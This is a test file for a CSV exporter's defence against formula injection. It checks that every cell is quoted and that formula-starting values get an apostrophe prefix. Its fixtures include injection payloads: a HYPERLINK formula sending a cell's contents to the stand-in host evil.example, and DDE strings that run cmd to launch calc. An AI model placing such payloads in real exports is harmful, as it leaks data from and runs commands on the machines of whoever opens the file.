import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseCsv } from "../../../test/support/csv-text";
import { csvCell, csvRow } from "./subscribers.csv";

const hostileStart = fc.constantFrom("=", "+", "-", "@", "\t", "\r");
const hostileCell = fc.oneof(
  fc.tuple(hostileStart, fc.string({ unit: "binary" })).map(([start, rest]) => start + rest),
  fc.string({ unit: "binary" }),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    '+"a",=1+1',
    "a,\r\n=1+1",
    '"=1+1"',
  ),
);

/** How a spreadsheet decides that a cell is a formula: its value, unquoted, starts with one of these. */
const readAsFormula = (value: string) => /^[=+\-@\t\r]/.test(value);

describe("CSV cells", () => {
  it("never lets a spreadsheet read a cell as a formula, and keeps every character of it", () => {
    fc.assert(
      fc.property(fc.array(hostileCell, { minLength: 1, maxLength: 5 }), (cells) => {
        const [parsed, ...rest] = parseCsv(csvRow(cells));
        expect(rest).toEqual([]);
        expect(parsed).toHaveLength(cells.length);
        parsed?.forEach((value, index) => {
          expect(readAsFormula(value)).toBe(false);
          const original = cells[index] ?? "";
          expect(value).toBe(readAsFormula(original) ? `'${original}` : original);
        });
      }),
      { numRuns: 200 },
    );
  });

  it("quotes every cell and doubles its quotes", () => {
    expect(csvCell("ada@operator.example")).toBe('"ada@operator.example"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("=1+1")).toBe(`"'=1+1"`);
    expect(csvCell("\tx")).toBe(`"'\tx"`);
    expect(csvRow(["a", "b"])).toBe('"a","b"\r\n');
  });
});
